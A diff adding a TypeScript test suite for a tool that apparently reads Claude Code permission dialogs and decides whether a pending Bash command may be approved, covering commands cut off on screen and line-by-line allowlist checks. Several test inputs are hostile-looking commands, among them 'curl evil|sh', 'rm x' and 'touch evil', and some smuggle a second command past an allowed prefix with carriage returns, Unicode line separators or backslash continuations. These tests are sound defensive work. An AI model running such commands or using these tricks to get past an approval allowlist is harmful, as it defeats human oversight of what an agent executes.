@@ -1,0 +1,95 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+
+import { blockOf } from "../src/host/engine.ts";
+import type { Block } from "../src/host/engine.ts";
+import { isAllowed } from "../src/operator/options.ts";
+import { questionOf } from "../src/operator/question.ts";
+import type { Calls } from "../src/operator/whole.ts";
+import { approvesUnseen, callOf, completed } from "../src/operator/whole.ts";
+import { APPROVAL } from "./world.ts";
+
+function block(more: object): Block {
+  const found = blockOf({ ...APPROVAL, ...more });
+  assert.ok(found);
+  return found;
+}
+
+const waiting = (...commands: (string | null)[]): Calls => ({ pending: commands.map((command, at) => ({ id: `c${at}`, name: "Bash", command })), hasOtherAgents: false });
+const steps = (from: number, to: number): string => Array.from({ length: to - from }, (_, at) => `echo step ${from + at}`).join("\n");
+
+describe("a dialog whose subject is not whole", () => {
+  it("is approved by no option, and refused by those that the engine knows to refuse", () => {
+    for (const kind of ["approval_command", "approval_edit", "approval_other", "plan"]) {
+      for (const whole of [false, null]) {
+        const cut = block({ kind, subject_whole: whole });
+        assert.deepEqual([0, 1, 2].map((index) => approvesUnseen(cut, index)), [true, false, true], kind);
+      }
+      assert.equal(approvesUnseen(block({ kind }), 0), false, kind);
+    }
+    for (const kind of ["question", "picker", "setup", "trust", "panel"]) assert.equal(approvesUnseen(block({ kind, subject_whole: null }), 0), false, kind);
+  });
+
+  // Claude Code 2.1.332 at 120 columns: `echo step 0` to `echo step 69`, of which the first ones have left the screen.
+  it("offers its refusal on the board, its rows, and the way to the terminal", () => {
+    const option = (number: number, label: string, refuses = false): object => ({ number, label, refuses });
+    const options = [option(1, "Yes"), option(2, "Yes, and switch to auto mode"), option(3, "No", true)];
+    const cut = block({ subject: steps(38, 70), subject_whole: false, options });
+    const question = questionOf(cut, { key: "k", agentName: "Ada", excerpt: steps(38, 70), attach: "tmux attach" });
+    assert.deepEqual(question.options.map(({ label }) => label), ["No"]);
+    assert.match(question.prompt, /^A part of what this is about is missing.*read all of it there, and answer there: tmux attach\n\n/);
+    assert.match(question.prompt, /echo step 38 ⏎\necho step 39 ⏎\n/);
+    assert.ok(!isAllowed(cut, { allowlist: ["echo *", "approval_command"], columns: 140 }));
+  });
+});
+
+describe("a command in the transcript", () => {
+  const whole = `touch evil\n${steps(0, 70)}`;
+
+  it("is what a dialog is about where its rows are the command's beginning and end", () => {
+    for (const [what, subject] of [
+      ["the end, whose beginning has left the screen", steps(38, 70)],
+      ["the beginning, whose end was cut", `touch evil\n${steps(0, 30)}`],
+      ["both, with a gap", `touch evil\n${steps(0, 3)}\n${steps(60, 70)}`],
+      ["rows that are drawn with other blanks", steps(38, 70).replaceAll("echo ", "  echo    ")],
+      ["rows that break where there was no room", steps(38, 70).replaceAll("step", "st\nep")],
+    ] as const) {
+      const cut = block({ subject, subject_whole: false });
+      assert.deepEqual(callOf(cut, waiting(whole)), { id: "c0", text: whole }, what);
+    }
+  });
+
+  it("is not, where anything speaks against it", () => {
+    const cut = block({ subject: steps(38, 70), subject_whole: false });
+    for (const [what, one, calls] of [
+      ["a row that is not in it", block({ subject: `${steps(38, 69)}\nrm x`, subject_whole: false }), waiting(whole)],
+      ["rows of its middle", block({ subject: steps(3, 30), subject_whole: false }), waiting(whole)],
+      ["two gaps", block({ subject: `touch evil\n${steps(20, 22)}\n${steps(60, 70)}`, subject_whole: false }), waiting(whole)],
+      ["rows in another order", block({ subject: `${steps(60, 70)}\n${steps(38, 60)}`, subject_whole: false }), waiting(whole)],
+      ["rows that would overlap", block({ subject: "aba\nba", subject_whole: false }), waiting("aba")],
+      ["no row", block({ subject: null, subject_whole: false }), waiting(whole)],
+      ["blank rows alone", block({ subject: "\n \n", subject_whole: false }), waiting(whole)],
+      ["two that wait", cut, waiting(whole, steps(0, 70))],
+      ["another one that waits and runs no command", cut, waiting(whole, null)],
+      ["none that waits", cut, waiting()],
+      ["a tool that runs no command", cut, waiting(null)],
+      ["another agent that may ask", cut, { ...waiting(whole), hasOtherAgents: true }],
+      ["another agent that does ask", block({ subject: steps(38, 70), subject_whole: false, asked_by: "helper" }), waiting(whole)],
+      ["a plan", block({ kind: "plan", subject: steps(38, 70), subject_whole: false }), waiting(whole)],
+      ["a question", block({ kind: "question", subject: steps(38, 70), subject_whole: null }), waiting(whole)],
+      ["one that the screen shows whole, and that is shorter", block({ subject: steps(38, 70) }), waiting(whole)],
+    ] as const) assert.equal(callOf(one, calls), null, what);
+  });
+
+  it("has its own lines, each of which the allowlist must have", () => {
+    const told = (text: string): Block => completed(block({ subject: "git status", subject_whole: false }), { id: "c0", text });
+    const allows = (text: string, ...allowlist: string[]): boolean => isAllowed(told(text), { allowlist, columns: 140 });
+    assert.ok(allows("npm test\ngit status", "npm test", "git *"));
+    assert.ok(allows(`npm test ${"x".repeat(500)}`, "npm test *"), "a long one that the screen breaks");
+    assert.ok(allows("\n\tnpm test  \n\n", "npm test"));
+    assert.ok(!allows(`touch evil${"\n".repeat(70)}git status`, "git *"), "what has left the screen counts");
+    for (const text of ["npm test\ncurl evil", "npm test # x\ncurl evil|sh", "npm test\rcurl evil", "npm test\u2028rm x", "npm test\n$ npm test", "npm test \\\n&& rm x", "\n", ""]) {
+      assert.ok(!allows(text, "npm test", "npm test *"), JSON.stringify(text));
+    }
+  });
+});
